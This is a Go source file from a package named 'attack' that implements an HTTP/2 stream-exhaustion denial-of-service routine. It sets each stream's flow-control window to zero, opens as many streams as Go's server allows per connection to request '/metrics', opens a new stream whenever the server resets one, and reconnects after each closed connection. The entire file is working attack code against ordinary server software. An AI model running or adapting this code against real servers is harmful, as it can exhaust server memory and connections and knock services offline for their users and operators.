package attack

import (
	"bytes"
	"context"
	"io"
	"net"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// maxStreams is how many streams a client opens: as many as Go's server lets one connection have.
const maxStreams = 250

// stuckStreams asks for the metrics on all streams of a connection, and lets the program send no
// byte of them: the window of each stream is 0. It connects again when the program closes the
// connection.
func (g *target) stuckStreams(ctx context.Context) {
	for {
		conn := g.dial(ctx, 0, http2.NextProtoTLS)
		if conn == nil {
			return
		}
		_ = g.stick(conn) // the program, or the end of ctx, closes the connection
		conn.Close()
		backOff(ctx)
	}
}

// stick opens streams, and another one for each that the program ends, until the connection breaks.
func (g *target) stick(conn net.Conn) error {
	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
		return err
	}
	framer := http2.NewFramer(conn, conn)
	if err := framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0}); err != nil {
		return err
	}
	var next uint32 = 1
	for range maxStreams {
		if err := g.open(framer, next); err != nil {
			return err
		}
		next += 2
	}
	for {
		frame, err := framer.ReadFrame()
		if err != nil {
			return err
		}
		switch f := frame.(type) {
		case *http2.SettingsFrame:
			if !f.IsAck() {
				err = framer.WriteSettingsAck()
			}
		case *http2.PingFrame:
			if !f.IsAck() {
				err = framer.WritePing(true, f.Data)
			}
		case *http2.RSTStreamFrame:
			err = g.open(framer, next)
			next += 2
		case *http2.GoAwayFrame:
			return nil
		}
		if err != nil {
			return err
		}
	}
}

// open asks for the metrics on a stream.
func (g *target) open(framer *http2.Framer, stream uint32) error {
	var block bytes.Buffer
	encoder := hpack.NewEncoder(&block)
	for _, field := range []hpack.HeaderField{
		{Name: ":method", Value: "GET"},
		{Name: ":scheme", Value: "https"},
		{Name: ":authority", Value: g.Address},
		{Name: ":path", Value: "/metrics"},
		{Name: "accept-encoding", Value: "gzip"},
	} {
		if err := encoder.WriteField(field); err != nil {
			return err
		}
	}
	return framer.WriteHeaders(http2.HeadersFrameParam{
		StreamID: stream, BlockFragment: block.Bytes(), EndStream: true, EndHeaders: true,
	})
}
